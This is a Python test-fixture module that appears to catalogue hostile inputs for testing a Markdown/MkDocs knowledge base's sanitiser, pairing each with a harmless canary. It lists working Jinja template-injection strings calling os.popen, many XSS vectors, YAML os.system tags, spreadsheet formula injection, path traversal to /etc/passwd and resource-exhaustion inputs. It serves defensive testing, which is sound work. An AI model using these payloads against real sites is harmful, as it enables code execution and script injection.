"""What a hostile story may hold: one payload an attack, each with a canary that tells whether it worked.

In a payload FILE is a file that must not come into being, URL an address at which nobody must
call, and NAME the attack's own; what runs in a browser writes it into `window.pwned`.
"""

import json
import sys
from collections.abc import Collection, Iterator
from html.parser import HTMLParser

_RUN = "cycler.__init__.__globals__.os.popen('touch FILE').read()"
_PWN = "window.pwned='NAME'"

TEMPLATES = {
    "jinja-expression": f"{{{{ {_RUN} }}}}",
    "jinja-after-emoji": f"🔥 {{{{ {_RUN} }}}}",
    "jinja-lipsum": "{{ lipsum.__globals__['os'].popen('touch FILE').read() }}",
    "jinja-statement": f"{{% set x = {_RUN} %}}{{{{ x }}}}",
    "jinja-subclasses": "{% for c in ().__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}{{ 7 * 191 }}",
    "jinja-config-hooks": "{{ config.hooks }} {{ config.plugins }} {{ config.config_file_path }}",
    "jinja-environment": "{{ environment }} {{ config.__class__.__init__.__globals__['os'].environ['PERFKB_CANARY'] }}",
    "jinja-include": "{% include 'mkdocs.yml' %}{% import 'mkdocs.yml' as x %}",
    "jinja-in-code": f"```\n{{{{ {_RUN} }}}}\n```\n\n`{{{{ {_RUN} }}}}`",
    "jinja-in-link": f"[{{{{ {_RUN} }}}}](https://example.org/{{{{ 7 * 191 }}}})",
    "second-front-matter": f"---\nrender_macros: true\n---\n{{{{ {_RUN} }}}}",
    "second-front-matter-late": f"Text.\n\n---\nrender_macros: true\ntemplate: x.html\n---\n\n{{{{ {_RUN} }}}}",
    "macro-of-ours": "{{ stories_table() }}{{ macros_info() }}{{ fix_url('x') }}",
}
INCLUSIONS = {
    "snippet-line": '--8<-- "mkdocs.yml"',
    "snippet-block": "--8<--\nmkdocs.yml\nsite-config/sources.yml\n--8<--",
    "snippet-in-code": '```\n--8<-- "site-config/sources.yml"\n```',
    "snippet-address": '--8<-- "URL"',
    "markdown-include": "{!mkdocs.yml!} {!../outside/secret.md!}",
    "include-directive": "```{include} ../outside/secret.md\n```\n\n.. include:: ../outside/secret.md",
    "picture-outside": "![x](../../../outside/secret.md) ![y](/../outside/secret.md)",
}
SCRIPTS = {
    "script": f"<script>{_PWN}</script>",
    "script-split": f"<scr<script>ipt>{_PWN}</scr</script>ipt>",
    "script-source": "<script src='URL'></script>",
    "script-in-svg": f"<svg><script>{_PWN}</script></svg>",
    "svg-onload": f'"><svg onload="{_PWN}">',
    "svg-animate": f'<svg><a><animate attributeName=href values="javascript:{_PWN}"/><text>x</text></a></svg>',
    "img-onerror": f'<img src=x onerror="{_PWN}">',
    "img-onerror-no-end": f'<img src=x onerror="{_PWN}" ',
    "img-slashes": f'<img/src=x/onerror="{_PWN}">',
    "picture-title": f"![x](x.png \"a' onerror='{_PWN}\")",
    "body-onload": f'<body onload="{_PWN}">',
    "details-ontoggle": f'<details open ontoggle="{_PWN}">x</details>',
    "input-autofocus": f'<input autofocus onfocus="{_PWN}">',
    "video-onerror": f'<video><source onerror="{_PWN}"></video>',
    "math-mutation": f'<math><mtext><table><mglyph><style><img src=x onerror="{_PWN}"></style></mglyph></table></math>',
    "noscript-mutation": f"<noscript><p title='</noscript><img src=x onerror={_PWN}>'></noscript>",
    "comment-end": f'<!--><img src=x onerror="{_PWN}" title="-->">',
    "cdata": f"<![CDATA[><script>{_PWN}</script>]]>",
    "template-element": f"<template><script>{_PWN}</script></template>",
    "iframe-srcdoc": f"<iframe srcdoc='<script>parent.{_PWN}</script>'></iframe>",
    "object-data": f"<object data='javascript:{_PWN}'></object><embed src='javascript:{_PWN}'>",
    "meta-refresh": f"<meta http-equiv=refresh content='0;url=javascript:{_PWN}'>",
    "base": "<base href='URL'>",
    "form": f"<form action='javascript:{_PWN}'><button formaction='javascript:{_PWN}' autofocus>x</button></form>",
    "block-in-markdown": f'<div markdown onclick="{_PWN}">\n<script>{_PWN}</script>\n</div>',
    "shadow-root": f"<div><template shadowrootmode=open><script>{_PWN}</script></template></div>",
    "dialog": f"<dialog open><b tabindex=1 autofocus onfocus={_PWN}>x</b></dialog><p popover ontoggle={_PWN}>x</p>",
    "script-data": '<script type=speculationrules>{"prefetch": [{"urls": ["URL"]}]}</script>',
    "way-out": f"</div></article></main></body></html><script>{_PWN}</script>",
    "unclosed": f'<table><tr><td><details><summary>x<p><b title="</b><script>{_PWN}</script>',
    "mermaid": f'```mermaid\ngraph TD\nA["<img src=x onerror={_PWN}>"]\n```\n\n<pre class="mermaid">graph TD</pre>',
}
LINKS = {
    "link-javascript": f"[x](javascript:{_PWN})",
    "link-mixed-case": f"[x](  JaVaScRiPt:{_PWN})",
    "link-entities": f"[x](&#106;avascript&colon;{_PWN})",
    "link-control": f'<a href="java&#9;script:{_PWN}">x</a> <a href="&#1;javascript:{_PWN}">y</a>',
    "link-data": f"[x](data:text/html,<script>{_PWN}</script>)",
    "link-reference": f"[x][y]\n\n[y]: javascript:{_PWN}",
    "link-auto": f"<javascript:{_PWN}>",
    "link-footnote": f"x[^1]\n\n[^1]: [y](vbscript:{_PWN})",
    "link-lines": "[x](<a&#10;::error::NAME.md>) <a href='y.md\n::error::NAME'>y</a> ![z](a&#10;::error::NAME.png)",
    "link-terminal": "[x](nosuch&#27;[31m.md) [y](nosuch\u202egnp.md) <a href='a\u2028b&#x85;.md'>z</a>",
    "link-chart": "[![x](text-link-chart/requests.svg)](javascript:NAME) [![x](checkout-spins/requests.svg)](URL)",
    "link-target": "<a href='https://example.org' target=_blank ping='URL'>x</a>",
}
ATTRIBUTES = {
    "attribute-list": f'[x](https://example.org){{: onclick="{_PWN}" onfocus="{_PWN}" autofocus }}',
    "attribute-list-heading": f"## x {{ id='x\"onfocus={_PWN} autofocus tabindex=1 y=\"' }}",
    "heading-html": f'## x <img src=x onerror="{_PWN}">',
    "heading-comment": f'## x <!--><img src=x onerror="{_PWN}" title="-->"> x',
    "style-attribute": '<p style="position:fixed;inset:0;background:url(URL)">x</p>\n\n*a*{: style="color:red" }',
    "clobbering": '<p id="__config">{}</p>\n\n<a id="__search" name="__md_scope">x</a>\n\n## y {: #__palette }',
    "theme-classes": '<p class="md-overlay md-dialog pk-banner" id="pk-data">x</p>\n\n<label for="__drawer">y</label>',
    "our-parts": '<p class="pk-verdict pk-verdict--confirmed">x</p><label for="pk-x">y</label>',
    "fields": "<input name=q> <input type=password> <input type=text autofocus> <textarea></textarea><button>y",
    "table-cell": f'| a | b |\n|---|---|\n| <b onclick="{_PWN}">x</b> | `\\|` |\n',
    "admonition-title": f'!!! note "<img src=x onerror={_PWN}>"\n    x\n\n=== "<svg onload={_PWN}>"\n    y\n',
    "code-title": f'```python title="<img src=x onerror={_PWN}>" hl_lines="1"\nx\n```\n',
    "abbreviation": f"*[abc]: <img src=x onerror={_PWN}>\n\nabc",
}
OTHER_HOSTS = {
    "picture": "![x](URL/p.png)",
    "picture-no-scheme": "![x](//HOST/p.png)",
    "picture-backslashes": '![x](\\\\HOST/p.png) <img src="/\\HOST/p.png"> <img src="http:\\\\HOST/p.png">',
    "picture-data": f"![x](data:image/svg+xml,<svg onload={_PWN}>) <img src='data:text/html,<script>{_PWN}</script>'>",
    "picture-set": '<img srcset="URL 2x"><picture><source srcset="URL"></picture>',
    "style-element": "<style>@import 'URL'; *{background:url(URL)}</style>",
    "stylesheet": "<link rel=stylesheet href='URL'><link rel=prefetch href='URL'>",
    "media": "<video src='URL' poster='URL' autoplay></video><audio src='URL' autoplay></audio>",
    "frame": "<iframe src='URL'></iframe><object data='URL'></object><embed src='URL'>",
    "input-image": "<input type=image src='URL'><table background='URL'><tr><td>x</td></tr></table>",
}
TEXTS = TEMPLATES | INCLUSIONS | SCRIPTS | LINKS | ATTRIBUTES | OTHER_HOSTS
"""Attacks by the text of a story."""

FIELDS = (
    "jinja-expression", "jinja-after-emoji", "jinja-subclasses", "jinja-config-hooks", "script", "img-onerror",
    "svg-onload", "link-javascript", "attribute-list-heading", "heading-html", "heading-comment", "picture",
)  # fmt: skip
"""Those that are put into every field, label, tag and caption of a story as well."""
MORE_FIELDS = {
    "pipes": "| a | b |",
    "formula": '=HYPERLINK("URL","x")',
    "command": "@SUM(1+1)*cmd|' /C touch FILE'!A0",
    "mathematics": "$\\frac{$ _x ^^ \\input{FILE}",
}

REFUSED = {
    "deep": (b"title: " + b"[" * 40_000, "PK003"),
    "braces": (b"a: " + b"{b: " * 5_000, "PK003"),
    "bomb": (b"a: &a [x,x]\nb: &b [*a,*a]\nc: [*b,*b]", "PK003"),
    "merge": (b"a: &a {b: c}\n<<: *a", "PK003"),
    "python-object": (b"title: !!python/object/apply:os.system ['touch FILE']", "PK003"),
    "local-tag": (b"title: !include /etc/passwd", "PK003"),
    "large": (b"title: " + b"x" * 70_000, "PK003"),
    "second-document": (b"title: a\n--- b", "PK002"),
    "twice": (b"title: a\ntitle: b", "PK004"),
    "sexagesimal": (b"when: 12:30", "PK005"),
    "not-text": (b"title: \xff\xfe", "PK001"),
    "nul": (b"title: a\x00b", "PK002"),
    "markup-in-title": (b"title: a <script>x</script>", "PK105"),
    "markup-in-tag": (b'tags: ["<script>x</script>"]', "PK105"),
    "direction": ("title: a\u202eb".encode(), "PK105"),
    "line-break": (b'title: "a\\nb"', "PK105"),
    "escape-sequence": (b'title: "a\\e[31mb"', "PK105"),
    "invisible": ('title: "\u2060\u200b\u3164"'.encode(), "PK103"),
    "javascript-link": (b"profiles: ['javascript:window.pwned=1']", "PK103"),
    "password-link": (b"profiles: ['https://a:b@example.org']", "PK103"),
    "quote-in-link": (b"profiles: ['https://example.org/\"onmouseover=x']", "PK103"),
    "series-path": (b"telemetry: {'../../x': {source: demo, kind: gauge, metric: a}}", "PK103"),
    "fix-path": (b"fixes: [{id: ../../x}]", "PK103"),
    "story-path": (b"same_as: ../../x", "PK103"),
    "many-customers": (b"reports: [{date: 2026-01-01, said: x, customers: " + b"9" * 5_000 + b"}]", "PK103"),
    "many-series": (b"telemetry:\n" + b"".join(b"  a%d: {use: x}\n" % n for n in range(900)), "PK103"),
    "huge-goal": (b"slo: {series: a, below: 1e308 s}", "PK103"),
    "many-tags": (b"tags: [" + b"a, " * 101 + b"]", "PK103"),
    "long-link": (b"profiles: ['https://a.example/" + b"a" * 2_000 + b"']", "PK103"),
    "far-date": (b"opened: 9999-12-31", "PK103"),
}
"""Attacks by the front matter that `check` names: what is written, and the code."""

_LINES = 120_000
HANGS = {
    "brackets": "[" * 20_000,
    "brackets-in-paragraphs": ("[" * 900 + "\n\n") * 130,
    "lists-in-lists": "\n".join("    " * depth + "- a" for depth in range(180)),
    "lists-on-a-line": "- " * 1000 + "a",
    "quotes": "> " * 20_000,
    "headings": "## a\n" * 20_000,
    "tags": "<a " * 20_000,
    "elements": "<div>" * 20_000,
    "elements-in-lines": "<div>\n" * 20_000,
    "rules": "---\n" * 20_000,
    "cells": "|" + "a|" * 20_000 + "\n|" + "-|" * 20_000,
    "rows": "|a|b|\n|-|-|\n" + "|c|d|\n" * 15_000,
    "definitions": "a\n: b\n" * 20_000,
    "tabs": '=== "a"\n    b\n' * 6_000,
    "sections": "<![CDATA[" * 10_000,
    "abbreviations": "".join(f"*[a{n}]: b\n\n" for n in range(8_000)),
    "long-abbreviation": "*[a]: " + "b" * 60_000 + "\n\n" + "a " * 30_000,
    "code": "```perl\n" + "s{{{{{\n" * 15_000 + "```\n",
    "inline-code": ("`#!python a` " * 300 + "\n\n") * 30,
    "formatting": "".join(f"<b class=a{n}><p>\n" for n in range(5_000)),
    "large": "a line of prose\n" * 20_000,
    "brackets-in-headings": ("## " + "[" * 290 + "\n\n") * 430,
    "marks-in-braces": "{" + "#a" * 3_900 + "\n" + ("#a" * 3_900 + "\n") * 14,
}
"""Attacks by a text that Markdown, its extensions or the cleaning of HTML is slow on, or recurses."""

NAMES = {
    "folder-above": "../escape.md", "blank": "a b.md", "markup": "<script>.md", "template": "{{ 7 * 191 }}.md",
    "direction": "\u202egnp.md", "line-break": "a\nb.md", "option": "--help.md", "index": "index.md",
    "device": "CON.MD", "program": "x.md.exe", "homoglyph": "\u0430dmin.md", "hyphen": "-.md", "hyphens": "a--b.md",
    "long": "x" * 90 + ".md",
}  # fmt: skip
"""Attacks by the name of a file in stories/."""

LINKS_OUT = {"leak.md": "secret.md", "leak": ".", "checkout-spins/pinned": ".", "loop.md": "../kb/stories/loop.md"}
"""Attacks by a symbolic link in stories/: its place, and where it leads from a folder outside."""

LABELS = {
    "header": "time,<script>window.pwned='NAME'</script>\n2026-01-01T00:00:00Z,1\n",
    "bound": "time,le=<img src=x onerror=window.pwned='NAME'>,le=+Inf,sum\n2026-01-01T00:00:00Z,1,2,3\n",
    "cell": "time,value\n2026-01-01T00:00:00Z,\"<svg onload=window.pwned='NAME'>\"\n",
    "moment": "time,value\n<iframe srcdoc=x>\u202e{{ 7 * 191 }},1\n",
    "line-ends": "time,value\r\r\n\u2028\u0085\x1b[31m,1\n",
    "not-text": "\xff\xfe\x00",
    "zeros": "time,le=1,le=+Inf,sum\n" + "".join(f"2026-01-{day:02}T00:00:00Z,0,0,0\n" for day in range(1, 29)),
    "huge": "time,le=1,le=+Inf,sum\n" + "".join(f"2026-01-{d:02}T00:00:00Z,1e99,9e99,1e99\n" for d in range(1, 29)),
    "beyond": "time,value\n" + "".join(f"2026-01-{day:02}T00:00:00Z,-1.7e308\n" for day in range(1, 29)),
    "tiny": "time,value\n" + "".join(f"2026-01-{day:02}T00:00:00Z,{day}e-320\n" for day in range(1, 29)),
}
"""Attacks by what a source answers: labels, cells, and numbers of any size."""

_RUNS = "a file, a call to a socket, the environment's secret, a file outside, what a browser would run or load"
ALL: dict[str, tuple[Collection[str], str]] = {
    "text": (TEXTS, _RUNS),
    "field": ((*FIELDS, *MORE_FIELDS), _RUNS),
    "front matter": (REFUSED, "the problem's code, a file, two seconds"),
    "slow text": (HANGS, "seconds, a placeholder on the page, a traceback"),
    "file name": (NAMES, "the problem's code, a page"),
    "link": (LINKS_OUT, "the problem's code, a secret of a file outside"),
    "telemetry": (LABELS, "what a browser would run, characters that show what is not there"),
}
"""Every attack by its kind, and the canaries that would tell of its success."""


def text_story(payload: str) -> str:
    """The least story, with the payload as its text."""
    return f"---\ntitle: An attack\nstatus: reported\nreports: [{{date: 2026-01-01, said: slow}}]\n---\n\n{payload}\n"


def field_story(slug: str, payload: str) -> str:
    """A story with the payload in every field that takes a text."""
    text = json.dumps(payload, ensure_ascii=False)
    title = json.dumps(payload.replace("<", "‹").replace(">", "›").replace("\n", " "), ensure_ascii=False)
    return f"""---
title: {title}
status: reported
area: checkout
owner: {text}
tickets: [{title}]
tags: [{title}]
endpoints: [{text}]
symptoms: [{text}]
workaround: {text}
say: {text}
who: {text}
what: {text}
when: {text}
where: {text}
why: {text}
customer: {{impact: {text}, affected: {{value: {text}, unit: {text}, as_of: 2026-01-01}}, video: {text}}}
reports: [{{date: 2026-01-01, said: {text}}}]
telemetry:
  requests: {{source: demo, kind: histogram, metric: checkout, unit: s, title: {title}}}
  labelled: {{source: demo, kind: histogram, metric: checkout, match: {{route: {text}}}, unit: s}}
timeboxes: [{{date: 2026-01-01, question: {text}, budget: 2h, outcome: {text}}}]
hypotheses: [{{id: h1, because: {text}, slows: {text}, for: {text}, written: 2026-01-01}}]
chosen: {{date: 2026-01-01, because: {text}}}
fixes: [{{id: f1, ticket: {title}, shipped: 2026-01-02}}]
pauses: [{{parked: 2026-01-02, because: {text}, reopened: 2026-01-03}}]
override: {{PK301: {text}}}
---

{payload}

---
render_macros: true
---

{payload}

![{payload.replace("]", "").replace("URL", "")}]({slug}/requests.svg)
"""


def armed(payload: str, name: str, file: str, url: str) -> str:
    """The payload with its canaries."""
    host = url.partition("//")[2].rstrip("/")
    return payload.replace("FILE", f"{file}-{name}").replace("URL", f"{url}{name}").replace("HOST", host).replace(
        "NAME", name
    )  # fmt: skip


class Active(HTMLParser):
    """Finds what a browser would run or load: `found` holds each place as it is written."""

    LOADS = frozenset({"src", "srcset", "poster", "data", "action", "formaction", "background", "ping", "srcdoc"})
    FRAMES = frozenset({"iframe", "object", "embed", "base", "template", "math", "audio", "video", "source", "frame"})

    def __init__(self, url: str) -> None:
        super().__init__()
        self.url = url
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Judges an element by its name and its attributes."""
        if tag in self.FRAMES or any(self._runs(tag, key, value or "") for key, value in attrs):
            self.found.append(self.get_starttag_text() or tag)

    handle_startendtag = handle_starttag

    def _runs(self, tag: str, key: str, value: str) -> bool:
        plain = "".join(value.split()).lower().lstrip("\x00\x01")
        foreign = self.url in value or self.url.partition(":")[2] in value.replace("\\", "/")
        return (
            key.startswith("on")
            or (key in ("href", "values", "to") and plain.startswith(("javascript:", "vbscript:", "data:")))
            or (key in self.LOADS and (foreign or plain.startswith(("javascript:", "http:", "https:", "//", "/\\"))))
            or (key == "href" and tag != "a" and foreign)
            or (key == "style" and "url(" in plain.replace("url(#", ""))
            or (key == "http-equiv" and plain == "refresh")
        )

    def handle_data(self, data: str) -> None:
        """Judges what stands in a script or a style."""
        if self.cdata_elem and ("pwned" in data or self.url in data):
            self.found.append(data)


def active(html: str, url: str) -> Iterator[str]:
    """What of the HTML would run, or load something from `url` or any other host."""
    parser = Active(url)
    parser.feed(html)
    parser.close()
    yield from parser.found


if __name__ == "__main__":
    for kind, (names, canaries) in ALL.items():
        sys.stdout.write(f"{len(names):3} by {kind}, told by {canaries}: {', '.join(names)}\n")
    sys.stdout.write(f"{sum(len(names) for names, _ in ALL.values()):3} attacks\n")
